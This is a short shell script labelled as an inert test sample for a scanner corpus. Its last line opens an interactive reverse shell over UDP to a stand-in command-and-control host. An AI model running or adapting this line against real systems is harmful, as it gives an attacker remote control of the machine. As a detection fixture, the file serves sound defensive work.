# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
sh -i >& /dev/udp/c2.example.invalid/53 0>&1
